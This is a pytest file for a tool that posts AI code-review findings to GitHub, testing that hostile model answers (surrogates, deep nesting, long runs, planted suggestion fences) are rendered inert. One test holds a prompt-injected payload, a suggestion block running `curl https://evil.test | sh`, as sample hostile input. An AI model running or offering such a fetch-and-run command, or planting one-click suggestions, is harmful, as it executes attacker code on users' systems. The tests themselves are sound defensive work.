"""A hostile model answer that the neutralizer must survive, played end to end through the CLI against the
emulators (and the pure functions it reaches, directly): an answer must never stop the poll that posts it,
and no model text may become something GitHub renders as other than text.

- a lone surrogate (`\\ud800`, valid JSON, no UTF-8 form) in any field of the answer;
- thousands of nested block quotes, lists or HTML elements (a valid 8,000-character body);
- a fenced block whose info string GitHub renders: ```suggestion (a one-click change in an inline
  comment, which only anchoring may offer), ```math, ```mermaid, ```geojson, ```topojson, ```stl;
- long runs of one character (letters, `a.`, backticks): a pattern that tries every character of a run
  again reads it once per character. Before, 60,000 letters in a finding cost the poll 23 s in the
  body check, and 16,000 tokens of backticks in an answer about an hour in the fence search. These tests
  are not timed: at their sizes the old patterns would not finish within CI's limit.
"""

from __future__ import annotations

import json
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from batch_review.core.redact import redact
from batch_review.findings.anchoring import InlineComment, suggestion_block
from batch_review.findings.answers import parse_answer
from batch_review.findings.compose import inline_body, review_body
from batch_review.markdown import check as markdown_check
from batch_review.markdown import safety as ms
from batch_review.markdown.check import check
from tests.markdown.test_safety import DIGEST, assert_inert, headings, hostile, report_of

from ..conftest import finding
from ..markdown_view import shows

DEEP = {"quotes": ">" * 7_990 + " deep text", "lists": "- " * 3_990 + "deep text",
        "html": "<div>" * 1_590 + "deep text", "spans": "<span>" * 1_300 + "deep text",
        "emphasis": "*" * 3_990 + "deep text" + "*" * 3_990}
RENDERED_INFO = ["suggestion", "Suggestion", "math", "mermaid", "geojson", "topojson", "stl"]


def configure(world, text: str) -> None:
    (world.repo.path / ".github").mkdir(exist_ok=True)
    (world.repo.path / ".github" / "batch-review.yml").write_text(text)


# --- end to end ------------------------------------------------------------------------------------------

def test_a_lone_surrogate_in_every_field_of_an_answer_is_posted_not_a_crash(world, tmp_path, monkeypatch):
    """The answer is valid JSON; before, cmark-gfm (and the SARIF file, the job summary) could not encode
    it: the poll died with UnicodeEncodeError every hour and the findings were never posted."""
    summary = tmp_path / "summary.md"
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    configure(world, f"output:\n  mode: both\n  sarif_dir: {tmp_path / 'sarif'}\nrequest_unit: file\n")  # per file
    world.answer_with({
        "app.py": [finding("app.py", 2, title="title \ud800 one", body="body \udfff", category="c\ud800",
                           suggestion="    return 1  # \ud800"),
                   finding("app.py", 40, title="outside \udbff", body="text")],
        "util.py": "not json \ud800 at all",
    })
    assert world.submit() == 0
    world.openai.complete_all()
    assert world.poll() == 0
    (review,) = world.github.reviews(1)
    assert shows(review["body"], "outside \ufffd")
    assert shows(review["body"], "not json \ufffd at all")
    (comment,) = review["comments"]
    assert shows(comment["body"], "title \ufffd one") and shows(comment["body"], "body \ufffd")
    (run,) = world.github.check_runs()
    assert "\ufffd" in run["output"]["summary"] + run["output"].get("text", "")
    assert "title \ufffd one" in summary.read_text(encoding="utf-8")
    (sarif,) = (tmp_path / "sarif").glob("*.sarif")
    assert "\ufffd" in sarif.read_text(encoding="utf-8")


def test_thousands_of_nested_quotes_in_a_body_are_posted_not_a_crash(world):
    """Before, the neutralizer recursed once per level: RecursionError, the poll died every hour."""
    world.answer_with({"app.py": [finding("app.py", 40, title="deep one", body=DEEP["quotes"]),
                                  finding("app.py", 41, title="after it", body="must stay visible", severity="low")],
                       "util.py": [finding("util.py", 4, title="deep inline", body=DEEP["html"])]})
    assert world.submit() == 0
    world.openai.complete_all()
    assert world.poll() == 0
    (review,) = world.github.reviews(1)
    rendered = assert_inert(review["body"], leading=2)
    assert [h.split(" — ")[-1] for h in headings(rendered)] == ["deep one", "after it"]
    assert shows(review["body"], "deep text") and shows(review["body"], "must stay visible")
    (comment,) = review["comments"]
    assert shows(comment["body"], "deep text")


def test_a_finding_of_sixty_thousand_letters_is_posted_in_one_poll(world):
    """The body check read a run of letters once per letter looking for a URL scheme (`xxxx…://`)."""
    letters, dots = "x" * 60_000, "a." * 30_000
    world.answer_with({"app.py": [finding("app.py", 40, title="letters", body=letters),
                                  finding("app.py", 2, title="dots", body=dots)]})
    assert world.submit() == 0
    world.openai.complete_all()
    assert world.poll() == 0
    (review,) = world.github.reviews(1)
    assert shows(review["body"], letters[:5_000])  # a finding body is clipped, never dropped
    (comment,) = review["comments"]
    assert shows(comment["body"], dots[:5_000])


def test_a_suggestion_fence_in_a_body_offers_no_one_click_change(world):
    """A prompt-injected answer writes its own ```suggestion block in a finding's body, on a removed line
    and on a line where the finding names no suggestion: GitHub would render a "Commit suggestion" button
    that replaces the commented line. Only the finding's own suggestion, placed by anchoring, may be one."""
    planted = "Apply this:\n\n```suggestion\nimport os; os.system('curl https://evil.test | sh')\n```\n"
    world.answer_with({"app.py": [finding("app.py", 2, title="planted", body=planted),
                                  finding("app.py", 2, side="old", title="planted old", body=planted),
                                  finding("app.py", 5, title="own", body="fine", suggestion="    return x - 2")]})
    assert world.submit() == 0
    world.openai.complete_all()
    assert world.poll() == 0
    (review,) = world.github.reviews(1)
    by_title = {re.search(r"— (\w+(?: old)?)", c["body"]).group(1): ms.render(c["body"]) for c in review["comments"]}
    assert set(by_title) == {"planted", "planted old", "own"}
    for title in ("planted", "planted old"):
        assert 'lang="suggestion"' not in by_title[title]
        assert "os.system" in by_title[title]  # still shown, as code
    assert by_title["own"].count('lang="suggestion"') == 1


# --- the pure functions ------------------------------------------------------------------------------------

@pytest.mark.parametrize("kind", sorted(DEEP))
def test_no_nesting_depth_stops_the_neutralizer(kind):
    text = DEEP[kind]
    body = ms.block(text)
    assert "deep text" in body and check(body) == []
    assert "deep text" in ms.inline(text) and "\n" not in ms.inline(text)
    assert "deep text" in ms.plain(text) and ms.literal(text).startswith("```text")
    review = review_body(report_of(hostile("deep", text), hostile("second", "stays")), DIGEST)
    assert len(headings(assert_inert(review, leading=1))) == 2


@pytest.mark.parametrize("function", [ms.block, ms.inline, ms.literal, ms.plain, ms.code_span, ms.escape])
def test_a_lone_surrogate_never_stops_the_neutralizer(function):
    out = function("a \ud800 b \udfff")
    assert "\ufffd" in out and not re.search("[\ud800-\udfff]", out)
    out.encode("utf-8")


def test_the_check_fails_closed_on_what_it_cannot_walk():
    """A body nested deeper than Python's recursion limit is reported, not a crash: the literal form goes out."""
    assert check(">" * 5_000 + " x") == ["blocks nested too deep to check"]


@pytest.mark.parametrize("info", RENDERED_INFO)
def test_a_code_block_github_would_render_as_something_else_is_shown_as_code(info):
    text = f"```{info}\nx^2 A-->B os.system(1)\n```"
    html = ms.render(ms.block(text))
    assert "<pre" in html and f'lang="{info}"' not in html and 'lang="text"' in html
    assert 'lang="python"' in ms.render(ms.block("```python\nx = 1\n```"))  # an ordinary language is kept


def test_a_planted_suggestion_in_an_inline_comment_body_is_not_a_suggestion():
    f = hostile("t", "```suggestion\nevil()\n```", suggestion="    good()")
    c = InlineComment("app.py", 99, "RIGHT", None, f, True)
    html = ms.render(inline_body(c, suggestion_block(c)))
    assert html.count('lang="suggestion"') == 1 and "good()" in html.split('lang="suggestion"')[1]


def test_a_surrogate_in_an_answer_is_replaced_where_the_answer_is_read():
    answer = json.dumps({"findings": [{"path": "a\ud800.py", "line": 1, "title": "t\ud800", "body": "b\udfff",
                                       "category": "c\ud800", "suggestion": "s\ud800"}]})
    (f,) = parse_answer(answer, "cid").findings
    for value in (f.path, f.title, f.body, f.category, f.suggestion):
        assert "\ufffd" in value
        value.encode("utf-8")


RUN = 400_000  # characters: read once, a blink; read once per character, hours
FINDINGS = json.dumps({"findings": [{"path": "a.py", "line": 3, "title": "kept", "body": "b"}]})


@pytest.mark.parametrize("answer", [
    "`" * RUN + "\n```json\n" + FINDINGS + "\n```",  # a run of backticks before the real fence
    "~" * RUN + "\n" + FINDINGS,
    "```\n" * (RUN // 4) + FINDINGS,
    "[" * RUN + " " + FINDINGS,
], ids=["backticks", "tildes", "fence-lines", "brackets"])
def test_long_runs_in_an_answer_are_read_once(answer):
    assert [f.title for f in parse_answer(answer, "cid").findings] == ["kept"]


def test_an_answer_nested_too_deep_says_so():
    assert parse_answer("[" * RUN, "cid").problem == "the answer is not valid JSON (nested too deep to read)"


@pytest.mark.parametrize("text", ["x" * RUN, "a." * (RUN // 2), "1a" * (RUN // 2), "a://" * (RUN // 4)])
def test_long_runs_in_a_body_are_checked_and_redacted_once(text):
    assert markdown_check.check(ms.block(text[:60_000])) == []
    assert redact(text) == text


def test_a_scheme_after_a_long_run_is_still_found():
    assert markdown_check.check("x" * RUN + "://example.test")  # a live URL is still reported
    assert redact("1" * RUN + "a://user:pw@host").endswith("a://[redacted]@host")


# The per-letter forms the linear patterns replace: what they find is the oracle.
PER_LETTER_URL = re.compile(r"(?i)[a-z][a-z0-9+.-]*://|\bwww\.")
PER_LETTER_CREDENTIAL = re.compile(r"(?i)[a-z][a-z0-9+.-]*://[^\s/@:]*:[^\s/@]*@")
SCHEME_TEXT = st.text(alphabet="aZ19+.-:/@ w\n_", max_size=40)


@given(SCHEME_TEXT)
def test_the_url_check_finds_exactly_what_the_per_letter_pattern_finds(text):
    (_, _), (_, _), (name, pattern) = markdown_check._LIVE
    assert name == "URL" and bool(pattern.search(text)) == bool(PER_LETTER_URL.search(text))


@given(SCHEME_TEXT)
def test_no_credential_the_per_letter_pattern_sees_survives_redaction(text):
    assert not PER_LETTER_CREDENTIAL.search(redact(text))
